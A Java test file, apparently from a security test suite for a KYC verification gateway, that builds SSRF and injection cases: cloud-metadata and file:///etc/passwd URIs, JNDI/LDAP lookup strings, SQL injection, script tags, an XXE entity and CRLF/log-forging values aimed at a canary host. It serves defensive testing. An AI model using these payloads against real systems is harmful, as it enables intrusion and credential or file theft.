package io.kycgateway.attacks;

import static io.kycgateway.attacks.AttackClass.INJECTION;
import static io.kycgateway.attacks.AttackClass.SSRF;

import io.kycgateway.testing.Problems;
import io.kycgateway.testing.RawHttp;
import io.kycgateway.testing.Requests;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Input that is meant to be read as something else, or to make the gateway call another server. */
final class InjectionAttacks {
  private static final String MARKER = Problems.MARKER;

  private InjectionAttacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    // The canary's address stands for CANARY. Accepted and handed on as text; no call is made.
    for (String uri :
        List.of(
            "http://CANARY/x",
            "http://user:pass@CANARY/x",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::ffff:7f00:1]/",
            "http://127.0.0.1:8081/metrics",
            "file:///etc/passwd",
            "gopher://CANARY/_GET",
            "ldap://CANARY/a",
            "jar:http://CANARY/a.jar!/",
            "//CANARY/share")) {
      all.add(
          new Attack(
              SSRF,
              "evidence at `" + uri + "`",
              target -> target.verify(Requests.withSelfie(uri.replace("CANARY", canary(target))))));
    }
    header(all, SSRF, "X-Forwarded-Host: CANARY", "X-Forwarded-Host: CANARY");
    header(all, SSRF, "X-Forwarded-For: CANARY", "X-Forwarded-For: CANARY");
    all.add(
        new Attack(
            SSRF,
            "a request for `http://CANARY/v1/verifications`, as a proxy has it",
            target ->
                target.application(
                    "GET http://"
                        + canary(target)
                        + "/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")));

    device(all, "a line break", MARKER + "\\r\\nX: 1");
    device(all, "${jndi:ldap://CANARY/a}", "${jndi:ldap://CANARY/" + MARKER + "}");
    device(all, "a label's end", MARKER + "\\\"} 1");
    device(all, "an escape sequence of a terminal", MARKER + "\\u001b[2J");
    device(all, "a NUL", MARKER + "\\u0000");
    device(all, "text that turns around (U+202E)", MARKER + "\\u202e");
    device(all, "half a surrogate pair", MARKER + "\\ud800");
    metadata(all, "${jndi:ldap://CANARY/a}", "${jndi:ldap://CANARY/" + MARKER + "}");
    metadata(all, "SQL", MARKER + "'; DROP TABLE x; --");
    metadata(all, "HTML", "<script>" + MARKER + "</script>");
    metadata(all, "a forged log line", MARKER + "\\n2026-01-01 ERROR all is lost");
    body(
        all, "a session id that is SQL", genuineWith("\"session_id\": \"" + MARKER + "' OR 1=1\""));
    body(all, "a country that is HTML", Requests.genuine().replace("ESP", "<b>" + MARKER));
    body(all, "an unknown field with a telling name", genuineWith("\"" + MARKER + "\": 1"));
    body(all, "the same field twice", genuineWith("\"device_id\": \"" + MARKER + "\""));
    body(all, "NaN", "{\"selfie\": NaN}");
    body(all, "a comment", "/* " + MARKER + " */ " + Requests.genuine());
    body(all, "single quotes", "{'selfie': '" + MARKER + "'}");
    body(all, "a second document", Requests.genuine() + Requests.genuine());
    body(all, "a byte order mark", "\ufeff" + Requests.genuine());
    body(
        all,
        "XML with an external entity",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
    raw(all, "overlong UTF-8", "{\"device_id\": \"\u00c0\u00af\"}");
    raw(
        all,
        "UTF-16",
        new String(
            Requests.genuine().getBytes(StandardCharsets.UTF_16), StandardCharsets.ISO_8859_1));
    header(
        all,
        INJECTION,
        "X-Request-ID: ${jndi:ldap://CANARY/a}",
        "X-Request-ID: ${jndi:ldap://CANARY/" + MARKER + "}");
    header(all, INJECTION, "X-Request-ID: <b>, a tab", "X-Request-ID: <" + MARKER + ">\tx");
    header(all, INJECTION, "traceparent: 00-x", "traceparent: 00-" + MARKER);
    header(
        all,
        INJECTION,
        "User-Agent: ${jndi:ldap://CANARY/a}",
        "User-Agent: ${jndi:ldap://CANARY/" + MARKER + "}");
    all.add(
        new Attack(
            INJECTION,
            "a path that ends a label",
            target -> target.ask("GET", "/" + MARKER + "%22%7D%20999%0Akyc_x")));
    all.add(
        new Attack(
            INJECTION,
            "a method that ends a label",
            target -> target.ask("GET\"}" + MARKER, "/v1/verifications")));
    return all;
  }

  static String canary(Target target) {
    return target.canary().url().replaceAll("http://|/", "");
  }

  private static String genuineWith(String field) {
    return "{" + field + ", " + Requests.genuine().strip().substring(1);
  }

  private static void device(List<Attack> all, String what, String value) {
    all.add(
        new Attack(
            INJECTION,
            "device_id: " + what,
            target ->
                target.verify(
                    Requests.genuine()
                        .replace("device-1", value.replace("CANARY", canary(target))))));
  }

  private static void metadata(List<Attack> all, String what, String value) {
    all.add(
        new Attack(
            INJECTION,
            "metadata: " + what,
            target ->
                target.verify(
                    Requests.genuine()
                        .replace(
                            "\"web\"", "\"" + value.replace("CANARY", canary(target)) + "\""))));
  }

  private static void header(List<Attack> all, AttackClass kind, String what, String header) {
    all.add(
        new Attack(
            kind,
            "`" + what + "`",
            target -> target.verify(Requests.genuine(), header.replace("CANARY", canary(target)))));
  }

  private static void body(List<Attack> all, String what, String body) {
    all.add(new Attack(INJECTION, what, target -> target.verify(body)));
  }

  private static void raw(List<Attack> all, String what, String latin1) {
    all.add(
        new Attack(
            INJECTION,
            what,
            target ->
                target.application(
                    RawHttp.head("Connection: close", "Content-Length: " + latin1.length())
                        + "\r\n"
                        + latin1)));
  }
}
